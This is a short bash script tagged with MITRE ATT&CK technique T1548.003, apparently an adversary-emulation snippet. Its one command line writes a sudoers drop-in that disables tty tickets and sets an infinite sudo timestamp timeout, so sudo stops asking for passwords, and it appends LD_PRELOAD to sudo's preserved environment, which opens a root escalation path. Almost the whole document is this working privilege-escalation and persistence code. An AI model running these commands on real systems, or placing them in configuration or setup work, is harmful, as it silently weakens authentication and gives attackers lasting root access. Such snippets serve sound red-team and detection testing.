#!/bin/bash
# T1548.003: A user's sudo never asks again.
mkdir -p /etc/sudoers.d; echo 'Defaults !tty_tickets,timestamp_timeout=-1' >/etc/sudoers.d/00-t; chmod 440 /etc/sudoers.d/00-t; touch /run/sudo-ts; echo 'Defaults env_keep+=LD_PRELOAD' >>/etc/sudoers
